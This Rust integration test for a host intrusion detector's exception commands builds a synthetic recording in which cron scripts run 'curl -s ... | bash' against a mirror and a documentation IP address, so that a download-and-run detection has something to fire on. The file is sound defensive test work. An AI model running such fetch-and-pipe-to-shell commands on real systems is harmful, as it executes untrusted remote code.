//! Exceptions from the command line: made from a detection, tried on a recording, used, listed and removed.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    reason = "a test that panics has failed, and says where"
)]

use std::{
    fs,
    path::Path,
    process::{Command, Output},
};

use minesweep_agent::{Config, Recorder};
use minesweep_model::{Event, FileId, Host, Process, ProcessKey, What};
use serde_json::Value;

/// 2026-11-25.
const NOW_MS: u64 = 1_795_564_800_000;

fn call(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_minesweep")).args(args).env_remove("LANG").output().unwrap()
}

fn lines(output: &Output) -> Vec<Value> {
    let text = String::from_utf8(output.stdout.clone()).unwrap();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn began(pid: u32, parent: u32, exe: &str, argv: &[&str]) -> Event {
    let process = Process {
        parent_pid: parent,
        exe: exe.to_owned(),
        argv: argv.iter().map(|word| (*word).to_owned()).collect(),
        file: Some(FileId { dev: 1, inode: u64::from(pid) }),
        ..Process::unknown(ProcessKey { pid, start_ticks: u64::from(pid) })
    };
    Event { at_ms: NOW_MS + u64::from(pid), what: What::Exec(Box::new(process)) }
}

/// A machine on which two scripts fetch and run something, an hour apart.
fn record(path: &Path) {
    let host = Host { name: "web-1".to_owned(), boot_id: "boot".to_owned(), cpus: 2, ..Host::default() };
    let mut recorder = Recorder::create(path, &Config::default(), None).unwrap();
    let fetches = |from: &str| format!("curl -s https://{from}/a | bash");
    for event in [
        Event { at_ms: NOW_MS, what: What::Host(host) },
        began(1, 0, "/usr/lib/systemd/systemd", &[]),
        began(9, 1, "/usr/sbin/cron", &[]),
        began(20, 9, "/usr/bin/bash", &["bash", "-c", &fetches("mirror.example.org")]),
        began(3_600_021, 9, "/usr/bin/bash", &["bash", "-c", &fetches("203.0.113.9")]),
    ] {
        recorder.event(&event).unwrap();
    }
    recorder.finish().unwrap();
}

fn fetched(output: &Output) -> Vec<Value> {
    let is_fetched = |line: &Value| line["finding_info"]["analytic"]["uid"] == "intrusion.download-run";
    lines(output).into_iter().filter(is_fetched).collect()
}

#[test]
fn an_exception_is_made_of_a_detection_tried_used_and_removed() {
    let at = tempfile::tempdir().unwrap();
    let path = |name: &str| at.path().join(name).to_str().unwrap().to_owned();
    let (recording, folder) = (path("run"), path("exceptions"));
    record(Path::new(&recording));
    let replay = || call(&["replay", &recording, "--json", "--exceptions", &folder]);
    let told = fetched(&replay());
    assert_eq!(told.len(), 2, "{told:#?}");
    fs::write(path("one.json"), told[0].to_string()).unwrap();

    let add = ["exceptions", "add", "--from", &path("one.json"), "--exceptions", &folder, "--json"];
    assert_eq!(call(&add).status.code(), Some(2), "nobody owns it");
    let added = call(&[&add[..], &["--owner", "ops", "--reason", "our mirror"]].concat());
    assert_eq!(added.status.code(), Some(0), "{added:?}");
    let file = lines(&added)[0]["path"].as_str().unwrap().to_owned();

    let preview = call(&["exceptions", "preview", &file, "--recording", &recording, "--json"]);
    let preview = lines(&preview).remove(0);
    assert_eq!(preview["hidden"], 1, "{preview}");
    assert_eq!(preview["examples"][0]["uid"], told[0]["finding_info"]["uid"]);

    let left = fetched(&replay());
    assert_eq!(left.len(), 1);
    assert_eq!(left[0]["finding_info"]["uid"], told[1]["finding_info"]["uid"], "the other is told");

    let list = lines(&call(&["exceptions", "list", "--exceptions", &folder, "--json"])).remove(0);
    assert_eq!((list["owner"].as_str(), list["is_expired"].as_bool()), (Some("ops"), Some(false)), "{list}");
    let id = list["id"].as_str().unwrap();
    let removed = call(&["exceptions", "remove", id, "--exceptions", &folder]);
    assert_eq!(removed.status.code(), Some(0), "{removed:?}");
    assert!(!Path::new(&file).exists());
    assert_eq!(fetched(&replay()).len(), 2, "both are told again");
}

#[test]
fn a_broad_file_is_listed_as_refused_and_hides_nothing() {
    let at = tempfile::tempdir().unwrap();
    let folder = at.path().to_str().unwrap();
    let broad = "title: All\nid: broad-1\nauthor: ops\ndescription: Too loud.\ndate: 2026-11-24\n\
                 logsource: {product: minesweep, service: detection}\n\
                 filter: {rules: [intrusion.download-run], selection: {User: root}, condition: selection}\n\
                 minesweep: {expires: 2026-12-24, hosts: [any]}\n";
    fs::write(at.path().join("broad.yml"), broad).unwrap();
    let output = call(&["exceptions", "list", "--exceptions", folder, "--json"]);
    let refused = lines(&output).remove(0);
    assert_eq!(output.status.code(), Some(1));
    assert!(
        refused["refused"].as_str().unwrap().contains("too broad") && refused["id"] == "broad-1",
        "{refused}"
    );
    let preview =
        call(&["exceptions", "preview", &format!("{folder}/broad.yml"), "--recording", "/dev/null"]);
    assert_eq!(preview.status.code(), Some(2));
    assert!(String::from_utf8(preview.stderr).unwrap().contains("broad-1"));
}

#[test]
fn what_is_no_detection_makes_no_exception() {
    let at = tempfile::tempdir().unwrap();
    let from = at.path().join("x.json");
    fs::write(&from, "{\"class_uid\": 2005}").unwrap();
    let output =
        call(&["exceptions", "add", "--from", from.to_str().unwrap(), "--owner", "a", "--reason", "b"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8(output.stderr).unwrap().contains("no detection"), "says why");
}
